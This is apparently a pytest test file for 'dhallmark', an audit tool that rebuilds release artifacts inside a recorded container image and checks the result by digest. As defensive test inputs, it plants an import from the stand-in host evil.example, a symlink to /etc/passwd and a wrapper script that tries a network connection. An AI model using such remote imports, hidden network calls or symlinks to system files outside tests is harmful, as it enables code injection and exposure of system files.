"""Rebuilds that were made elsewhere, by the program that is run in the recorded image."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.component.audit.conftest import Command
from tests.component.audit.images import archived, write_image
from tests.component.audit.releases import Lie, Maker

import dhallmark
from dhallmark.digest import Digest
from dhallmark.errors import ExitCode
from dhallmark.oci.layout import blob_path

pytestmark = pytest.mark.component

Prepare = Callable[[], tuple[Path, tuple[object, ...]]]


@pytest.fixture
def prepare(maker: Maker, command: Command, tmp_path: Path) -> Prepare:
    """Writes what has to be rebuilt; the order's folder, and the words of the audit."""

    def call() -> tuple[Path, tuple[object, ...]]:
        maker.publish(tmp_path / "layout", maker.artifact())
        words = ("audit", tmp_path / "layout", "--policy", maker.policy)
        said = command(*words, "--prepare-only", "--into", tmp_path / "into")
        (rebuild,) = said.body["rebuilds"]
        return tmp_path / "into" / rebuild["folder"], (*words, "--prepared", tmp_path / "into")

    return call


def rebuild(order: Path, *, programs: Path, config: str = "dhallmark.yaml") -> None:
    """Run the program as in an image, on this machine."""
    programs.mkdir(exist_ok=True)
    own = programs / "dhallmark"
    source = Path(dhallmark.__path__[0]).parent
    own.write_text(f'#!/bin/sh\nPYTHONPATH="{source}" exec "{sys.executable}" -m dhallmark.cli.app "$@"\n')
    own.chmod(0o755)
    subprocess.run(
        ["sh", order.parent / "rebuild.sh", config, "1767323045", order, order / "made"],
        env={**os.environ, "PATH": f"{programs}:{os.environ['PATH']}"},
        check=True,
        timeout=300,
    )


def test_the_image_yields_files_and_this_installation_compares(
    prepare: Prepare, command: Command, tmp_path: Path
) -> None:
    order, words = prepare()
    rebuild(order, programs=tmp_path / "bin")
    (order / "made" / "image").write_text("registry.example/ci@sha256:…")
    said = command(*words)
    assert said.verdict == ("equal", "accepted", None)
    assert said.audit["rebuild"]["image"] == "registry.example/ci@sha256:…"
    assert said.audit["rebuild"]["conditions"] == {
        # The tools of a test are root's alone; in an image, the user is another one.
        "hostname": "rebuild.invalid", "user": str(os.getuid()), "umask": "0077", "cpus": "1", "locale": "C",
        "timezone": "REBUILD-13:45",
    }  # fmt: skip
    # What the image built counts, and not what it says of itself.
    template = order / "made" / "build" / "package" / "artifacts.json"
    template.write_text(template.read_text().replace("greeter", "greeteR"))
    assert command(*words).verdict[1] != "accepted"


def test_a_link_out_of_what_the_image_made_is_not_followed(prepare: Prepare, command: Command, tmp_path: Path) -> None:
    order, words = prepare()
    rebuild(order, programs=tmp_path / "bin")
    chart = order / "made" / "build" / "render" / "prod" / "greeter" / "Chart.yaml"
    chart.unlink()
    chart.symlink_to("/etc/passwd")
    assert command(*words).verdict == ("unknown", "indeterminate", "tool.unavailable")


def test_a_step_that_fails_in_the_image_gives_its_reason(prepare: Prepare, command: Command, tmp_path: Path) -> None:
    order, words = prepare()
    entry = order / "source" / "apps" / "greeter.dhall"
    entry.write_text("let x = https://evil.example/x.dhall in " + entry.read_text())
    rebuild(order, programs=tmp_path / "bin")
    assert command(*words).verdict == ("unknown", "rejected", "import.unfrozen")


def test_a_tool_in_the_image_that_tries_the_network_is_counted_by_the_kernel(
    prepare: Prepare, command: Command, tmp_path: Path
) -> None:
    order, words = prepare()
    programs = tmp_path / "bin"
    programs.mkdir()
    real = shutil.which("dhall")
    attempt = "import socket; socket.create_connection(('192.0.2.1', 443), 1)"
    (programs / "dhall").write_text(f'#!/bin/sh\npython3 -c "{attempt}" 2>/dev/null || true\nexec {real} "$@"\n')
    (programs / "dhall").chmod(0o755)
    rebuild(order, programs=programs)
    assert int((order / "made" / "attempts").read_text()) > 0
    assert (order / "made" / "build" / "package" / "artifacts.json").is_file()
    assert command(*words).verdict == ("unknown", "rejected", "rebuild.network")


@pytest.mark.parametrize(
    ("file", "text", "reason"),
    [
        ("isolation", "unshare: Operation not permitted", "isolation.unavailable"),
        ("attempts", "2", "rebuild.network"),
        ("status", "70", "tool.unavailable"),
    ],
)
def test_what_the_program_says_of_itself_decides_against_it(
    prepare: Prepare, command: Command, tmp_path: Path, file: str, text: str, reason: str
) -> None:
    order, words = prepare()
    made = order / "made"
    made.mkdir()
    for name, said in {"isolation": "sealed", "status": "0", "attempts": "0", "step": "package", file: text}.items():
        (made / name).write_text(f"{said}\n")
    assert command(*words).verdict[2] == reason


# The recorded image, as a file


def built_in(digest: Digest) -> Lie:
    """A record that names an image by that digest."""

    def change(predicate: dict[str, Any]) -> dict[str, Any]:
        (image,) = predicate["runDetails"]["builder"]["builderDependencies"]
        image["digest"]["sha256"] = digest.hex
        return predicate

    return Lie(predicate=change)


@pytest.mark.parametrize("form", ["archive", "layout", "folder"])
def test_the_recorded_image_is_laid_out_from_a_file_and_nothing_beside_it(
    maker: Maker, command: Command, tmp_path: Path, form: str
) -> None:
    images = tmp_path / "images"
    digest = write_image(images / "recorded")
    write_image(images / "another", b"another")
    (images / "recorded" / "blobs" / "sha256" / ("0" * 64)).write_bytes(b"not covered")
    given = {"layout": images / "recorded", "archive": archived(images / "recorded"), "folder": images}[form]
    maker.publish(tmp_path / "layout", maker.artifact(), lie=built_in(digest))
    words = ("audit", tmp_path / "layout", "--policy", maker.policy, "--image", given)
    said = command(*words, "--prepare-only", "--into", tmp_path / "into")
    (order,) = said.body["rebuilds"]
    assert (order["image"], order["refused"]) == (f"dhallmark-ci@{digest}", "")
    with tarfile.open(tmp_path / "into" / order["archive"]) as archive:
        names = {member.name for member in archive if member.isreg()}
        index = json.load(archive.extractfile("index.json") or io.BytesIO())
    assert [one["digest"] for one in index["manifests"]] == [digest]
    assert len(names) == 5
    assert f"blobs/sha256/{'0' * 64}" not in names
    rebuild(tmp_path / "into" / order["folder"], programs=tmp_path / "bin")
    assert command(*words, "--prepared", tmp_path / "into").verdict == ("equal", "accepted", None)


def tampered(layout: Path) -> None:
    """Other bytes under the layer's digest."""
    blob_path(layout, Digest.of(b"recorded")).write_bytes(b"recordeD")


def incomplete(layout: Path) -> None:
    blob_path(layout, Digest.of(b"recorded")).unlink()


def nothing(layout: Path) -> None:
    (layout / "oci-layout").unlink()
    (layout / "index.json").unlink()


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (lambda layout: write_image(layout, b"another"), "sha256:"),
        (tampered, f"it has other bytes under {Digest.of(b'recorded')}"),
        (incomplete, f"it lacks {Digest.of(b'recorded')}"),
        (nothing, "no OCI image at all"),
    ],
    ids=["another", "tampered", "incomplete", "no-image"],
)
def test_an_image_that_is_not_the_recorded_one_is_told_by_its_digest_and_nothing_is_rebuilt_in_it(
    maker: Maker, command: Command, tmp_path: Path, change: Callable[[Path], object], found: str
) -> None:
    images = tmp_path / "images"
    digest = write_image(images)
    change(images)
    maker.publish(tmp_path / "layout", maker.artifact(), lie=built_in(digest))
    words = ("audit", tmp_path / "layout", "--policy", maker.policy, "--image", images)
    (order,) = command(*words, "--prepare-only", "--into", tmp_path / "into").body["rebuilds"]
    assert order["archive"] == ""
    assert order["refused"]
    # Whoever rebuilds all the same, in whatever there is, is not believed.
    rebuild(tmp_path / "into" / order["folder"], programs=tmp_path / "bin")
    said = command(*words, "--prepared", tmp_path / "into")
    assert said.verdict == ("unknown", "indeterminate", "image.mismatch")
    (check,) = [one for one in said.audit["verdict"]["checks"] if one.get("reason") == "image.mismatch"]
    assert check["evidence"]["expected"] == digest
    assert found in check["evidence"]["found"]


def test_an_image_as_a_file_goes_with_a_rebuild_in_it(maker: Maker, command: Command, tmp_path: Path) -> None:
    write_image(tmp_path / "image")
    said = command("audit", tmp_path, "--policy", maker.policy, "--image", tmp_path / "image")
    assert said.status == ExitCode.USAGE
    assert said.body["message"] == "--image without --prepare-only or --prepared"
